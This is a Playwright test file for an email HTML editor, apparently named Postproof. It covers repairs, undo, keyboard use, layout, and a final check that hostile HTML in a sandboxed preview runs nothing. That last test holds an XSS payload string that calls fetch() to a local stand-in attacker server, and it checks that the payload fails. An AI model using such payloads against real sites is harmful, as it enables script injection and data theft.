import { readFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeEach, describe, expect } from 'vitest'
import { filled, hostileHtml } from '../hostile/xss-table.ts'
import { examples, type Instance } from '../instance.ts'
import { violations } from './axe.ts'
import { openPage } from './browser.ts'
import { focused, tabTo } from './by-keyboard.ts'
import { wrongAt } from './looks.ts'
import { test } from './worker.ts'

/** A mail changed in the product: checked with every key, repaired by a press, tested and compared; hostile HTML does nothing. */

let browser: Browser
let instance: Instance
let attacker: Server
let attackerAt = ''
const hits: string[] = []

test.beforeAll(async ({ chromium, plain }) => {
  browser = chromium
  instance = plain
  attacker = createServer((request, response) => {
    hits.push(request.url ?? '')
    response.setHeader('Access-Control-Allow-Origin', '*').end('top.pwned=1')
  })
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve))
  attackerAt = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`
})
beforeEach(() => {
  hits.length = 0
})
afterAll(() => attacker?.close())

const editorOf = (page: Page) => page.getByRole('textbox', { name: 'HTML of the email' })
/** The line of the editor that holds this. */
const line = (page: Page, text: string) => page.locator('.cm-line').filter({ hasText: text })
const score = (page: Page) => page.getByTestId('draft-score')

async function open(path: string, width = 1440) {
  const opened = await openPage(browser, instance.url, {
    viewport: { width, height: 900 },
    reducedMotion: 'reduce',
  })
  await opened.page.goto(`${instance.url}${path}`)
  await editorOf(opened.page).waitFor()
  return opened
}

/** In place of all that stands there. */
async function write(page: Page, html: string): Promise<void> {
  await editorOf(page).focus()
  await page.keyboard.press('ControlOrMeta+a')
  await page.keyboard.insertText(html)
}

async function tested(): Promise<string> {
  const form = new FormData()
  form.set('file', new Blob([await readFile(join(examples, 'careless-newsletter.eml'))]), 'mail.eml')
  const response = await instance.browser.call('/api/emails', { method: 'POST', body: form })
  const { id } = (await response.json()) as { id: string }
  await instance.browser.result(id)
  return id
}

const skeleton = (body: string) =>
  `<!doctype html>\n<html>\n<head><meta charset="utf-8"></head>\n<body>\n${body}\n<p>The quick brown fox jumps over the lazy dog while others watch from behind the fence.</p>\n</body>\n</html>`

describe('a mail that is written', () => {
  test('is checked, shown, repaired by one press each, and every repair is undone', async () => {
    const { page, problems } = await open('/email-test/write')
    await write(page, skeleton('<!-- logo --><img src="https://a.example/i.png" width="300" height="200">'))
    await page.getByRole('button', { name: 'Set language' }).click()
    await line(page, '<html lang="en">').waitFor()
    await page.getByLabel('Subject', { exact: true }).fill('Spring')
    await page.getByRole('button', { name: 'Set title' }).click()
    await line(page, '<title>Spring</title>').waitFor()
    await page.getByRole('button', { name: 'Remove', exact: true }).click()
    await line(page, '<!-- logo -->').waitFor({ state: 'detached' })
    await page.getByLabel('What the image says').fill('A "cat" & more')
    await page.getByRole('button', { name: 'Add text' }).click()
    await line(page, '<img alt="A &quot;cat&quot; &amp; more" src=').waitFor()
    // The image has its size as attributes alone, which Outlook does not enlarge with the text.
    await page.getByRole('button', { name: 'Repair', exact: true }).click()
    await line(page, '<o:PixelsPerInch>96').waitFor()
    await page.getByText('Nothing here can be repaired by itself.').waitFor()

    const undo = page.getByRole('button', { name: 'Undo' })
    await undo.click()
    await line(page, '<o:PixelsPerInch>96').waitFor({ state: 'detached' })
    await undo.click()
    await line(page, '<img src="https://a.example/i.png"').waitFor()
    await undo.click()
    await line(page, '<!-- logo -->').waitFor()
    await undo.click()
    await line(page, '<title>Spring</title>').waitFor({ state: 'detached' })
    await undo.click()
    await line(page, '<html>').waitFor()
    await page.getByRole('button', { name: 'Redo' }).click()
    await line(page, '<html lang="en">').waitFor()
    expect(problems.filter((each) => !each.includes('503'))).toEqual([])
  })

  test('a press that is faster than the answer about the last one is not lost', async () => {
    const { page } = await open('/email-test/write')
    await page.getByLabel('Subject', { exact: true }).fill('Spring')
    await write(page, skeleton('<img alt="A" src="https://a.example/i.png" width="300" height="200">'))
    const held: (() => Promise<void>)[] = []
    const repair = page.getByRole('button', { name: 'Repair', exact: true })
    await repair.waitFor()
    await page.route('**/api/drafts/check', async (route) => {
      held.push(() => route.continue().catch(() => {}))
    })
    // Both write into the head at the same place.
    await page.getByRole('button', { name: 'Set title' }).click()
    await line(page, '<title>Spring</title>').waitFor()
    await repair.click()
    await expect.poll(() => held.length).toBe(1)
    expect(await line(page, '<o:PixelsPerInch>96').count()).toBe(0)
    await held[0]!()
    await line(page, '<o:PixelsPerInch>96').waitFor()
    await page.getByText('Repaired.').waitFor()
  })

  test('a finding leads to its line, wherever that has moved meanwhile, and to its field', async () => {
    const { page } = await open('/email-test/write')
    await write(page, skeleton('<p>One</p>\n<img src="https://a.example/i.png" width="300" height="200">'))
    await page.getByRole('button', { name: 'Line 6' }).first().waitFor()
    const lineOf = () => page.locator('.cm-activeLine').textContent()
    await page.getByRole('button', { name: 'Line 6' }).first().click()
    await expect.poll(lineOf).toContain('<img src')
    expect(await focused(page)).toMatchObject({ name: 'HTML of the email' })

    await page.getByLabel('Subject', { exact: true }).fill('BUY NOW!!! FREE $$$ CASH!!!')
    const subject = page.getByRole('listitem').filter({ hasText: 'Subject style' })
    await subject.getByRole('button', { name: 'Subject' }).click()
    expect(await focused(page)).toMatchObject({ name: 'Subject' })
  })

  test('an answer about an older text never follows one about a newer', async () => {
    const { page } = await open('/email-test/write')
    const held: (() => Promise<void>)[] = []
    let first = true
    await page.route('**/api/drafts/check', async (route) => {
      if (!first) return route.continue()
      first = false
      held.push(() => route.continue().catch(() => {}))
    })
    await write(page, skeleton('<img src="https://a.example/i.png" width="300" height="200">'))
    await expect.poll(() => held.length).toBe(1)
    await write(page, skeleton('<p>None</p>'))
    const alt = page.getByText('has no alternative text')
    await page.getByText(/of what a sent email shows/).waitFor()
    await held[0]!()
    expect(await alt.count()).toBe(0)
  })
})

test('by keyboard: into the editor, out of it, through findings and repairs', async () => {
  const { page } = await open('/email-test/write')
  await tabTo(page, /^Other header fields$/)
  await page.keyboard.press('Enter')
  await tabTo(page, /^List-Unsubscribe-Post$/)
  await tabTo(page, /^HTML of the email$/)
  await page.keyboard.insertText(skeleton('<p>Hi</p>'))
  await page.getByRole('button', { name: 'Set language' }).waitFor()
  await page.keyboard.press('Escape')
  await tabTo(page, /^Desktop$/)
  await tabTo(page, /^Set language$/)
  await tabTo(page, /HTML skeleton/)
  await tabTo(page, /^Set language$/, 'Shift+Tab')
  await page.keyboard.press('Enter')
  await line(page, '<html lang="en">').waitFor()
  await tabTo(page, /^HTML of the email$/, 'Shift+Tab')
  await page.keyboard.press('ControlOrMeta+z')
  await line(page, '<html>').waitFor()
})

test('all repairs that need no words are one press, with the score that follows, and one undo', async () => {
  const { page } = await open('/email-test/write')
  await page.getByLabel('Subject', { exact: true }).fill('Spring')
  await write(
    page,
    skeleton('<!-- logo --><img alt="A" src="https://a.example/i.png" width="300" height="200">'),
  )
  const all = page.getByRole('button', { name: /^Apply all that are proved \(4\): \d+ → \d+$/ })
  const promised = Number(/→ (\d+)$/.exec((await all.textContent())!)![1])
  await all.click()
  for (const made of ['lang="en"', '<title>Spring</title>', '<o:PixelsPerInch>96'])
    await line(page, made).waitFor()
  expect(await line(page, '<!-- logo -->').count()).toBe(0)
  await page.getByText('Nothing here can be repaired by itself.').waitFor()
  expect(await score(page).textContent()).toBe(`${promised} / 100`)
  await page.getByRole('button', { name: 'Undo' }).click()
  await line(page, '<!-- logo -->').waitFor()
  await line(page, 'lang="en"').waitFor({ state: 'detached' })
})

test('at a desk code, mail and repairs stay next to each other, the repairs first', async () => {
  const { page } = await open(`/results/${await tested()}/edit`)
  await page.getByRole('button', { name: 'Set language' }).waitFor()
  const box = async (name: string) => (await page.locator(name).boundingBox())!
  const [code, mail, repairs] = [
    await box('.editor-code'),
    await box('.editor-mail'),
    await box('.editor-repairs'),
  ]
  expect([code.y, mail.y, repairs.y].every((y) => Math.abs(y - code.y) < 2)).toBe(true)
  expect(code.x < mail.x && mail.x < repairs.x).toBe(true)
  // Long lists scroll within their pane.
  expect(Math.max(code.height, mail.height, repairs.height)).toBeLessThan(700)
  expect(Math.min(code.height, mail.height, repairs.height)).toBeGreaterThan(550)
  const repair = (await page.getByRole('button', { name: 'Set language' }).boundingBox())!
  expect(repair.y).toBeLessThan(700)
})

test('on a phone code, mail and repairs are one press apart', async () => {
  const { page } = await open('/email-test/write', 375)
  await write(page, skeleton('<p>Hello there</p>'))
  const frame = page.locator('iframe[sandbox=""]')
  expect(await frame.isVisible()).toBe(false)
  await page.getByRole('button', { name: 'Email', exact: true }).click()
  await frame.contentFrame().getByText('Hello there').waitFor()
  expect(await editorOf(page).isVisible()).toBe(false)
  await page.getByRole('button', { name: 'Repairs', exact: true }).click()
  expect(await frame.isVisible()).toBe(false)
  await page.getByRole('button', { name: 'Line 2' }).first().click()
  await expect.poll(() => editorOf(page).isVisible()).toBe(true)
})

test('looked at: fits, readable, usable by all', async () => {
  const id = await tested()
  const { page } = await open(`/results/${id}/edit`)
  await page.getByRole('button', { name: 'Set language' }).waitFor()
  const looks = [
    { width: 375, colorScheme: 'light' },
    { width: 1440, colorScheme: 'dark' },
  ] as const
  expect(await wrongAt(page, looks)).toEqual([])
})

test('tested, it ends beside the test that it comes from', async () => {
  const id = await tested()
  const { page } = await open(`/results/${id}/edit`)
  await page.getByRole('button', { name: 'Set language' }).click()
  await line(page, 'lang="en"').waitFor()
  await expect.poll(() => score(page).textContent()).toMatch(/\d+ \/ 100/)
  await page.getByRole('button', { name: 'Test this version' }).click()
  await page.waitForURL(new RegExp(`/compare\\?test=${id}&test=`))
  await page.getByText('This version was written in the editor.').waitFor()
})

test('who would lose what was written is asked, and a look around loses nothing', async () => {
  const { page, problems } = await open('/email-test/write')
  const home = page.getByRole('banner').getByRole('link', { name: 'Postproof' })
  const asked = page.getByRole('alertdialog', { name: 'Leave without a test?' })
  await write(page, '<p>Written for an hour</p>')
  await home.click()
  expect(await violations(page)).toEqual([])
  await asked.getByRole('button', { name: 'Keep editing' }).press('Enter')
  await line(page, 'Written for an hour').waitFor()
  await home.click()
  await asked.getByRole('button', { name: 'Leave' }).press('Enter')
  await page.waitForURL(`${instance.url}/`)
  // Nothing was changed: nothing is asked.
  await page.goto(`${instance.url}/email-test/write`)
  await editorOf(page).waitFor()
  await home.click()
  await page.waitForURL(`${instance.url}/`)
  expect(problems.filter((each) => !each.includes('503'))).toEqual([])
})

test('what is typed while a draft is sent is not lost unasked', async () => {
  const { page } = await open('/email-test/write')
  const sending = Promise.withResolvers<void>()
  await page.route('**/api/drafts', async (route) => {
    await sending.promise
    await route.continue()
  })
  await write(page, '<p>Written for an hour</p>')
  await page.getByRole('button', { name: 'Test this email' }).click()
  await write(page, '<p>And a minute more</p>')
  sending.resolve()
  const asked = page.getByRole('alertdialog', { name: 'Leave without a test?' })
  await asked.getByRole('button', { name: 'Keep editing' }).press('Enter')
  await line(page, 'And a minute more').waitFor()
  await page.getByRole('button', { name: 'Test this email' }).click()
  await page.waitForURL(/\/(?:loading|results)\/\w+$/)
})

test('hostile HTML runs nothing, loads nothing and goes nowhere', async () => {
  const { page } = await open('/email-test/write')
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const title = await page.title()
  const js = `top.pwned=1;window.pwned=1;parent.document.title=1;fetch(\`${attackerAt}/x\`)`
  for (const [n, [name, html]] of hostileHtml.entries()) {
    await write(page, `<p>row ${n}</p>${filled(html, js, attackerAt)}`)
    await page.locator('iframe[sandbox=""]').contentFrame().getByText(`row ${n}`, { exact: true }).waitFor()
    expect(page.url(), name).toBe(`${instance.url}/email-test/write`)
    expect(
      page.frames().every((frame) => /^about:srcdoc|^http:\/\/localhost/.test(frame.url())),
      name,
    ).toBe(true)
  }
  // What was to be loaded would have been asked for by the time that the server has answered about the last one.
  await page.getByText(/of what a sent email shows/).waitFor()
  expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false)
  expect([await page.title(), hits, dialogs]).toEqual([title, [], []])
})
